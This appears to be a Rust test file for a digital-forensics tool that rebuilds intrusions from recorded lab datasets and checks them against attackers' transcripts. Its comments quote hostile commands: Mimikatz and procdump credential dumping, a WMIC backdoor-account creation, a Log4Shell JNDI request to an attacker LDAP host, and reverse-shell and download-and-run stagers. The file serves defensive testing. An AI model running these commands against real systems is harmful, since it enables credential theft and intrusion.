//! Do the incidents that we tell agree with what the operators of real intrusions wrote down?
//!
//! Each test takes the few decisions that a responder would take, and holds the steps to the
//! operator's transcript: what was done, as whom, when; and nothing that the transcript does not
//! have. The corpus is not part of this repository: `ASSIZE_CORPUS` says where it lies.
#![allow(clippy::disallowed_methods, clippy::print_stderr, clippy::unwrap_used)] // Tests play the person at the keyboard.

use std::path::Path;

use assize_case::model::decision::{Anchor, Decision, On, Place, Verb};
use assize_case::model::{Range, Row, Snapshot, Trust};
use assize_case::vault::CaseFile;
use assize_case::{Case, RuleSource, Silent, rule_files, stamp};
use assize_testing::corpus;

fn derived(root: &Path, evidence: &Path) -> Case {
    let rules = rule_files(&RuleSource::default()).unwrap();
    let mut case = Case::create(root, CaseFile::default(), &stamp(None)).unwrap();
    let refuse = &mut |_: &_, result: Result<_, String>| assert!(result.is_ok());
    case.intake(&[evidence.to_owned()], Trust::SelfReported, &stamp(None), &Silent, refuse).unwrap();
    case.derive(&rules, None, &stamp(None), &Silent).unwrap();
    case
}

fn rows(case: &Case, sql: &str) -> Vec<Row> {
    case.snapshot().unwrap().rows(sql).unwrap()
}

fn decision(verb: Verb, on: On) -> Decision {
    let (reason, by) = ("as a responder would".to_owned(), "a test".to_owned());
    Decision {
        verb,
        on,
        anchor: None,
        value: None,
        class: None,
        set: None,
        since: None,
        until: None,
        reason,
        by,
    }
}

/// That the one process of that program is the intruder's.
fn confirm_program(case: &Case, program: &str) -> Decision {
    let which = format!(
        "e.source = 'windows/Microsoft-Windows-Sysmon/Operational' AND e.verb = 'execute' \
         AND e.object_kind = 'process' AND e.object LIKE '%{program}'"
    );
    confirm(case, &which)
}

/// That the one event which these words tell is the intruder's act.
fn confirm(case: &Case, which: &str) -> Decision {
    let sql = format!(
        "SELECT x.paths[1] AS path, e.member, e.ranges FROM events e JOIN exhibits x ON x.id = e.exhibit \
         WHERE {which} ORDER BY e.time"
    );
    let found = rows(case, &sql);
    let [row] = found.as_slice() else { panic!("{} events: {which}", found.len()) };
    let ranges: Vec<Range> = serde_json::from_value(row.value("ranges").clone()).unwrap();
    let file = match row.some_text("member") {
        Some(member) => format!("{}!/{member}", row.text("path")),
        None => row.text("path").to_owned(),
    };
    let locator = Place { ranges: ranges.into_iter().take(1).collect(), chunk: None };
    Decision { anchor: Some(Anchor { file, locator }), ..decision(Verb::Confirm, On::Event) }
}

fn clock(host: &str, offset: &str) -> Decision {
    let set = serde_json::json!({"offset": offset}).as_object().cloned();
    Decision { value: Some(format!("host:{host}")), set, ..decision(Verb::Overrule, On::Clock) }
}

/// The steps of the only incident: technique, account, time to the minute.
fn steps(case: &Case) -> Vec<(String, String, String)> {
    assert_eq!(rows(case, "SELECT id FROM incidents").len(), 1);
    let rows = rows(case, "SELECT technique, account, time FROM steps ORDER BY position");
    let text = |row: &Row, key: &str| row.text(key).to_owned();
    rows.iter()
        .map(|row| (text(row, "technique"), text(row, "account"), row.text("time")[..16].to_owned()))
        .collect()
}

fn decide(case: &mut Case, decisions: &[Decision]) {
    case.decide(decisions, &stamp(None)).unwrap();
    case.conclude(None, &stamp(None), &Silent).unwrap();
}

/// The clock of its host is told to be 19 hours behind the UTC that its own events state: as far as
/// the network's records and the operator's own console say too.
fn assert_nineteen_hours_behind(case: &Case) {
    let clocks = rows(case, "SELECT ahead FROM clocks");
    let ahead: Vec<String> = clocks.iter().map(|row| row.value("ahead").to_string()).collect();
    assert_eq!(ahead.len(), 1);
    assert!(ahead[0].contains(&(-19_i64 * 3_600_000_000_000).to_string()), "{ahead:?}");
}

/// Operator (console in UTC−4): session opened 2023-08-16 00:54:56; `systeminfo`, `whoami`, `whoami
/// /groups`, `tasklist`, then as the system, then `sekurlsa::logonpasswords`. What the collector ran
/// afterwards as the same user (netsh, wevtutil, dxdiag from a script) is nobody's step.
#[test]
fn logon_passwords_from_memory() {
    let Some(corpus) = corpus("the first LSASS campaign") else { return };
    let dir = tempfile::tempdir().unwrap();
    let mut case = derived(&dir.path().join("case"), &corpus.join("lsass_campaigns/LSASS_campaign_01"));
    assert_nineteen_hours_behind(&case);
    assert_eq!(rows(&case, "SELECT id FROM incidents").len(), 0, "nothing is claimed before anybody decides");
    let payload = confirm_program(&case, "winx64_payload.exe");
    decide(&mut case, &[payload, clock("MKT01", "+19h")]);
    let told = steps(&case);
    let (pedro, system) = (r"PANDALAB\pedro.gustavo", r"NT AUTHORITY\SYSTEM");
    let written = [
        ("T1082", pedro, "2023-08-16T04:54"),
        ("T1033", pedro, "2023-08-16T04:55"),
        ("T1057", pedro, "2023-08-16T04:55"),
        ("T1033", system, "2023-08-16T04:56"),
        ("T1003.001", pedro, "2023-08-16T04:57"),
    ];
    assert_eq!(told, written.map(|(a, b, c)| (a.to_owned(), b.to_owned(), c.to_owned())));
    let script =
        "SELECT id FROM events WHERE object LIKE '%dxdiag.exe' AND id IN (SELECT event FROM proven_events)";
    assert!(rows(&case, script).is_empty(), "the collector's command is not the intruder's");
}

/// Operator: `systeminfo`, `whoami` and `whoami /groups`, `procdump.exe` put into `C:\Program Files`
/// and run on lsass.
#[test]
fn a_dump_by_procdump() {
    let Some(corpus) = corpus("the second LSASS campaign") else { return };
    let dir = tempfile::tempdir().unwrap();
    let mut case = derived(&dir.path().join("case"), &corpus.join("lsass_campaigns/LSASS_campaign_02"));
    assert_nineteen_hours_behind(&case);
    let payload = confirm_program(&case, "winx64_payload.exe");
    decide(&mut case, &[payload, clock("ACCT01", "+19h")]);
    let told = steps(&case);
    let techniques: Vec<&str> = told.iter().map(|(technique, ..)| technique.as_str()).collect();
    for written in ["T1082", "T1033", "T1105", "T1003.001"] {
        assert!(techniques.contains(&written), "{written}: {told:?}");
    }
    let foreign = |technique: &&&str| !["T1082", "T1033", "T1105", "T1003.001", "T1003"].contains(*technique);
    assert_eq!(
        techniques.iter().filter(foreign).count(),
        0,
        "nothing that the transcript does not have: {told:?}"
    );
    assert!(told.iter().all(|(_, account, _)| account == r"PANDALAB\nora.quemona"), "{told:?}");
    let times = "SELECT min(time) AS a, max(time) AS b FROM steps";
    let times = &rows(&case, times)[0];
    assert!(times.text("a") >= "2023-08-16T00:34" && times.text("b") <= "2023-08-16T00:40", "{times:?}");
}

/// The steps of the only incident in words: technique, account, machine, minute, outcome.
fn course(case: &Case) -> Vec<String> {
    assert_eq!(rows(case, "SELECT id FROM incidents").len(), 1);
    let rows = rows(case, "SELECT technique, account, host, time, outcome FROM steps ORDER BY position");
    let word = |row: &Row, key: &str| row.text(key).to_owned();
    let told = |row: &Row| {
        let (what, who, host) = (word(row, "technique"), word(row, "account"), word(row, "host"));
        let host = host.split('.').next().unwrap_or(&host).to_owned();
        format!("{what} {who} {host} {} {}", &word(row, "time")[11..16], word(row, "outcome"))
    };
    rows.iter().map(told).collect()
}

fn held(case: &Path, folder: &Path, file: &str) -> Case {
    derived(case, &folder.join(file))
}

/// Operator, 2020-09-14, in an Empire agent on WORKSTATION5: `shell wmic /node:WORKSTATION6 process call create
/// "net user /add backdoor pa$$w0rd1"`. The console says that the process was created; whether the account was, no
/// record says.
#[test]
fn an_account_made_over_wmi() {
    let Some(corpus) = corpus("the WMI transcript") else { return };
    let dir = tempfile::tempdir().unwrap();
    let folder = corpus.join("otrf_multihost");
    let mut case = held(&dir.path().join("case"), &folder, "empire_wmic_add_user_backdoor.zip");
    assert_eq!(rows(&case, "SELECT id FROM incidents").len(), 0, "nothing is claimed before anybody decides");
    let decision = confirm_program(&case, "WMIC.exe");
    decide(&mut case, &[decision]);
    let told = course(&case);
    assert_eq!(
        told,
        [
            r"T1047 THESHIRE\pgustavo WORKSTATION5 12:06 unknown",
            r"T1021 THESHIRE\pgustavo WORKSTATION6 12:06 success",
            r"T1136.001 THESHIRE\pgustavo WORKSTATION6 12:06 unknown",
        ]
    );
    let came = "SELECT opening FROM sessions WHERE proven_by = 'same-connection'";
    assert!(!rows(&case, came).is_empty(), "by the port that WMIC's connection and the logon share");
}

/// Operator, 2020-08-06 15:56:13 UTC, in a Covenant grunt on WORKSTATION5: `PowerShellRemotingCommand
/// /computername:"WORKSTATION6" /command:"get-process" /username:"pgustavo"`. The grunt's start is in no record.
#[test]
fn a_command_over_remote_management() {
    let Some(corpus) = corpus("the WinRM transcript") else { return };
    let dir = tempfile::tempdir().unwrap();
    let folder = corpus.join("otrf_multihost");
    let mut case = held(&dir.path().join("case"), &folder, "covenant_psremoting_command.zip");
    // Three connections of the grunt to port 5985: any of them names it.
    let first = "e.id IN (SELECT min(id) FROM events WHERE verb = 'connect' AND peer = '172.18.39.6' \
                 AND source = 'windows/Microsoft-Windows-Sysmon/Operational' AND host LIKE 'WORKSTATION5%')";
    let decision = confirm(&case, first);
    decide(&mut case, &[decision]);
    assert_eq!(course(&case), [r"T1021.006 THESHIRE\pgustavo WORKSTATION6 15:56 success"]);
    let others = "SELECT verdict FROM sessions WHERE door = 'remote-management' AND verdict <> 'intruder'";
    let others = rows(&case, others);
    assert!(others.iter().all(|row| row.text("verdict") == "undetermined"), "{others:?}");
}

/// Operator, 2022-05-11: `curl -H 'user-agent: ${jndi:ldap://192.168.2.6:1389/o=reference}' 192.168.2.5:8080/…`, then
/// in the shell that came back: `whoami`. Tomcat's Java runs `bash -c {echo,…}|{base64,-d}|{bash,-i}`.
#[test]
fn a_shell_from_a_log_line_on_linux() {
    let Some(corpus) = corpus("the Log4Shell transcript") else { return };
    let dir = tempfile::tempdir().unwrap();
    let file = "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip";
    let mut case = held(&dir.path().join("case"), &corpus.join("log4shell"), file);
    let decision = confirm(&case, "e.source = 'linux/auditd' AND e.object LIKE 'bash -c%'");
    decide(&mut case, &[decision]);
    assert_eq!(
        course(&case),
        ["T1059.004 tomcat UBUNTU5 18:10 unknown", "T1033 tomcat UBUNTU5 18:10 unknown"]
    );
    let others =
        "SELECT e.actor FROM proven_events p JOIN events e ON e.id = p.event WHERE e.actor <> 'tomcat'";
    assert!(rows(&case, others).is_empty(), "the monitoring agent's look at what runs is not the intruder's");
}

/// Operator, 2022-05-13: the same against Tomcat on Windows: an encoded PowerShell as the service's account. What is
/// encoded is a stager, which ends in `$wc.DownloadData($ser+$t)` and runs what it fetched.
#[test]
fn a_shell_from_a_log_line_on_windows() {
    let Some(corpus) = corpus("the Log4Shell transcript") else { return };
    let dir = tempfile::tempdir().unwrap();
    let file = "sysmon_log4shell_cve2021_44228_java_serialized_object.zip";
    let mut case = held(&dir.path().join("case"), &corpus.join("log4shell"), file);
    let decision = confirm_program(&case, "powershell.exe");
    decide(&mut case, &[decision]);
    let told = ["T1027.010", "T1059.001", "T1105"]
        .map(|technique| format!(r"{technique} NT AUTHORITY\LOCAL SERVICE WORKSTATION5 08:54 unknown"));
    assert_eq!(course(&case), told);
}
